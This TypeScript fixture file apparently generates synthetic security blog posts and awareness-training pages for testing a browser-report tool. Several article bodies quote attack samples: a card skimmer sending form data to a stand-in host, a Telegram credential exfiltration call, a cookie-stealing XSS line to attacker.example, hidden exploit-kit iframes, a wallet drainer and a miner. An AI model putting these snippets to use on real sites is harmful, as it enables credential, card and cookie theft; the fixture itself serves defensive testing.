/** Writing about attacks, trainings against them, and demonstrations. */
import type { Builders, Saved } from '../browser-report.ts';
import { base64, blob, escaped, hexDigits, packed, stringArray } from '../obfuscation.ts';
import * as v from '../vendors.ts';

const esc = (html: string) => html.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const kit = `<form action="next.php" method="post" id="chalbhai"><input name="UserID" required><input type="password" name="Pass"><input type="hidden" name="formtext1" value="login.php"></form>`;
const bot = `fetch('https://api.telegram.org/bot<TOKEN>/sendMessage?chat_id=' + id + '&text=' + encodeURIComponent(user + ':' + pass))`;

const ARTICLES: [url: string, lang: string, title: string, body: string][] = [
  [
    'https://isc.sans.example/diary/30122',
    'en',
    'Phishing page with a Telegram backend',
    `<p>A reader forwarded an HTML attachment. The interesting part:</p><pre>${esc(kit)}\n${esc(bot)}</pre><p>The victim's address is decoded with atob() from the fragment.</p>`,
  ],
  [
    'https://www.heise-blog.example/security/angler-landing',
    'de',
    'Analyse: Landing-Page des Angler-Exploit-Kits',
    `<p>Nach dem Entfernen der Junk-Schleifen bleibt:</p><pre>${esc(`<iframe src="http://203.0.113.9/topic/81-eighty/" width="1" height="1" style="visibility:hidden"></iframe><script>eval(unescape('${escaped('var swf="CVE-2015-5119"')}'))</script>`)}</pre>`,
  ],
  [
    'https://blog.malwarelab.example/magecart-base64',
    'en',
    'Skimmer hidden in a fake Google Analytics tag',
    `<pre><code class="hljs language-javascript">var _0x12=["${base64('checkout')}"];if(location.href.indexOf(atob(_0x12[0]))&gt;0){document.querySelectorAll('input').forEach(i=&gt;data[i.name]=i.value);new Image().src='https://g-analytics[.]example/collect?d='+btoa(JSON.stringify(data))}</code></pre>`,
  ],
  [
    'https://habr.example/ru/articles/71220/',
    'ru',
    'Разбираем фишинговый кит под «Госуслуги»',
    `<pre>${esc(kit)}</pre><p>Данные уходят в send.php, а затем в Telegram-бот.</p>`,
  ],
  [
    'https://korben-like.example/clickfix',
    'fr',
    'ClickFix : le faux CAPTCHA qui vous fait coller du PowerShell',
    `<p>Le site demande : « Appuyez sur Windows + R, puis Ctrl + V, puis Entrée ». Le presse-papiers contient :</p><pre>powershell -w hidden -enc SQBFAFgA... # tronqué</pre><p>Ne le faites jamais.</p>`,
  ],
  [
    'https://www.incibe-like.example/avisos/sms-correos',
    'es',
    'Campaña de smishing que suplanta a Correos',
    `<p>El mensaje dice: «Su paquete no pudo entregarse. Pague 1,79 € aquí». La página solicita: nombre, número de tarjeta, caducidad, CVV.</p><img src="/img/captura-formulario.png" alt="Formulario falso">`,
  ],
  [
    'https://niebezpiecznik-like.example/post/blik',
    'pl',
    'Tak kradną BLIK-iem: anatomia fałszywej bramki',
    `<pre>${esc('<form action="blik.php"><input name="kod" maxlength="6"></form>')}</pre><p>Konto zostanie zablokowane w 24 h – klasyczna presja czasu.</p>`,
  ],
  [
    'https://www.jpcert-like.example/blog/2022/drainer',
    'ja',
    'ウォレットドレイナーの解析',
    `<pre>await contract.setApprovalForAll("0x0000000000000000000000000000000000000bad", true);\nconst seed = document.querySelectorAll('input.word');</pre><p>フィッシングサイトはシードフレーズの入力を求めます。</p>`,
  ],
  [
    'https://freebuf-like.example/articles/web/3312',
    'zh',
    'JSFuck与packer混淆对抗笔记',
    `<pre>${esc(packed('document.write("<iframe src=http://198.51.100.7/x.html width=0 height=0></iframe>")'))}</pre>`,
  ],
  [
    'https://guvenlik-blog.example/sahte-edevlet',
    'tr',
    'Sahte e-Devlet sayfası nasıl çalışıyor?',
    `<pre>${esc(`<input name="tckn"><input type="password" name="sifre"><script>$.post('log.php', $('form').serialize())</script>`)}</pre>`,
  ],
  [
    'https://stackoverflow.com/questions/4120112/what-does-this-obfuscated-script-do',
    'en',
    'What does this obfuscated script do? - Stack Overflow',
    `<p>I found this at the top of every PHP file:</p><pre class="lang-js"><code>${esc(stringArray(['createElement', 'script', 'src', '//203.0.113.50/x.js'], 9, (g) => `var s=document[${g(0)}](${g(1)});s[${g(2)}]=${g(3)};`))}</code></pre><p>Answer: it injects a redirect.</p><script>StackExchange.ready(function(){StackExchange.using("postValidation",function(){})});</script>`,
  ],
  [
    'https://gist.github.com/analyst/9a1',
    'en',
    'coinhive miner deobfuscated · GitHub',
    `<table><tr><td class="blob-code">${esc('<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner = new CoinHive.Anonymous("KEY",{throttle:0.3});miner.start();</script>')}</td></tr></table>`,
  ],
  [
    'https://learn.microsoft.com/en-us/previous-versions/vbscript/shell',
    'en',
    'WshShell.Run method',
    `<pre>&lt;script language="VBScript"&gt;\nSet sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe"\n&lt;/script&gt;</pre>`,
  ],
  [
    'https://www.polizei-praevention.example/support-betrug',
    'de',
    'Falsche Microsoft-Mitarbeiter',
    `<p>„Ihr Computer wurde gesperrt! Fehler 0x80072ee7. Rufen Sie sofort den Microsoft Support an: 0800 …“ – solche Fenster sind Betrug. Schließen Sie den Browser.</p>`,
  ],
  [
    'https://owasp.example/xss-cheat-sheet',
    'en',
    'XSS filter evasion cheat sheet',
    `<pre>${esc('<IMG SRC=&#106;avascript:alert(1)>\n<SCRIPT>document.location="http://attacker.example/?"+document.cookie</SCRIPT>\n<BODY ONLOAD=eval(atob("YWxlcnQoMSk="))>')}</pre>`,
  ],
  [
    'https://ar-cert.example/tahdhir',
    'ar',
    'تحذير من صفحات تصيد تنتحل صفة البريد السعودي',
    `<p>تطلب الصفحة دفع 14.99 ريال ورقم البطاقة ورمز التحقق. لا تدخل بياناتك.</p>`,
  ],
  [
    'https://www.seguranet-like.example/burlas',
    'pt',
    'Burla “Olá mãe, este é o meu novo número”',
    '<p>Nunca partilhe códigos SMS. Contacte o seu banco. Exemplo de página falsa da Autoridade Tributária: reembolso de 348,20 €.</p>',
  ],
];
const DEMOS: [url: string, title: string, body: string][] = [
  [
    'https://training.awareness-kurs.example/modul/3/postfach',
    'Modul 3: Finden Sie die Phishing-Mail',
    `<div class="mail"><b>Von:</b> PayPaI Sicherheit &lt;service@paypal-konto.example&gt;<p>Ihr Konto wurde eingeschränkt. <a href="#" onclick="quiz(1);return false" title="http://paypal.konto-pruefen.example">Jetzt bestätigen</a></p></div><button onclick="quiz(0)">Echt</button><button onclick="quiz(1)">Phishing</button><script>function quiz(a){document.getElementById('r').textContent=a?'Richtig!':'Leider falsch – achten Sie auf die Domain.'}</script><p id="r"></p>`,
  ],
  [
    'https://phished.uni-it-training.example/oops?id=9a1',
    'Oops! You clicked on a simulated phishing email',
    `<h1>This was a test by IT Security.</h1><p>No data was collected. Three signs you missed: the sender, the urgency, the link.</p><iframe src="https://www.youtube-nocookie.com/embed/aO858HyFbKI" width="560" height="315"></iframe>`,
  ],
  [
    'https://phishingquiz.withgoogle.com/',
    'Phishing Quiz',
    `<app-root></app-root><form><input name="name"><input name="email" placeholder="Make up an email address"></form><script src="main.js"></script>`,
  ],
  [
    'https://www.passwort-check.example/',
    'Wie sicher ist mein Passwort?',
    `<input type="password" id="p" autocomplete="off"><div id="m"></div><p>Das Passwort verlässt Ihren Rechner nicht.</p><script>document.getElementById('p').onkeyup=function(){var s=0,p=this.value;if(p.length>11)s++;if(/[A-Z]/.test(p))s++;if(/\\d/.test(p))s++;document.getElementById('m').textContent=['schwach','mittel','gut','stark'][s]}</script>`,
  ],
  [
    'https://haveibeenpwned.com/Passwords',
    'Have I Been Pwned: Pwned Passwords',
    `<form id="searchPwnedPasswordsForm" method="post"><input type="password" name="Password" placeholder="password"><button>pwned?</button></form><script>async function q(p){const h=[...new Uint8Array(await crypto.subtle.digest('SHA-1',new TextEncoder().encode(p)))].map(b=>b.toString(16).padStart(2,'0')).join('');return(await fetch('https://api.pwnedpasswords.com/range/'+h.slice(0,5))).text()}</script>`,
  ],
  [
    'https://demo.testfire.net/login.jsp',
    'Altoro Mutual',
    `<form action="doLogin" method="post" name="login" id="login" onsubmit="return (confirminput(login));"><input name="uid"><input type="password" name="passw"><input type="submit" name="btnSubmit" value="Login"></form><p>This web site is provided "as is" to demonstrate application security products. It is not a real banking site.</p>`,
  ],
  [
    'https://juice-shop.herokuapp.com/#/login',
    'OWASP Juice Shop',
    `<app-root></app-root><script src="runtime.js" type="module"></script><script>window.addEventListener("load", function(){window.cookieconsent.initialise({"palette":{"popup":{"background":"#546e7a"}},"content":{"message":"This website uses fruit cookies to ensure you get the juiciest tracking experience."}})});</script>`,
  ],
  [
    'https://webkay.robinlinus.example/',
    'What every browser knows about you',
    `<script>document.write('<p>'+navigator.userAgent+'</p><p>'+screen.width+'x'+screen.height+'</p>');for(var i=0;i<navigator.plugins.length;i++)document.write(navigator.plugins[i].name+'<br>');navigator.getBattery&&navigator.getBattery().then(function(b){document.title=b.level*100+'%'});var c=document.createElement('canvas').getContext('2d');c.fillText('${hexDigits(3, 8)}',2,2);</script>`,
  ],
  [
    'https://gchq.github.io/CyberChef/',
    'CyberChef',
    `<textarea id="input-text">${blob(5, 300)}</textarea><div id="output"></div><script>try{window.onerror=function(m){document.getElementById("output").textContent=m}}catch(e){}</script><script src="assets/main.js"></script>`,
  ],
  [
    'https://urlscan.io/result/9f1/',
    'paypa1-secure.example - urlscan.io',
    `<h1>paypa1-secure.example</h1><div class="alert alert-danger">Malicious Activity! Targeting: PayPal</div><pre>${esc(kit)}</pre><a href="#">http://paypa1-secure.example/webapps/9a1/websrc</a>`,
  ],
];
export const warnings = {
  article: () =>
    ARTICLES.map(
      ([url, lang, title, body], n): Saved => [
        url,
        `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title>${[v.gtag(`G-W${n}`), v.piwik('m.example', n), '', v.cloudflareBeacon(`b${n}`)][n % 4]}</head><body><article><h1>${title}</h1>${body}<p>IOC: ${hexDigits(n, 64)}</p></article>${n % 3 ? '' : v.disqus(`w${n}`)}<a href="/tag/${n}">Tags</a>${n % 4 === 2 ? v.stack(n + 7) : ''}<a href="/rss">RSS</a></body></html>`,
      ],
    ),
  demonstration: () =>
    DEMOS.map(
      ([url, title, body]): Saved => [
        url,
        `<!doctype html><html><head><title>${title}</title></head><body>${body}<a href="/about">About</a></body></html>`,
      ],
    ),
} satisfies Builders;
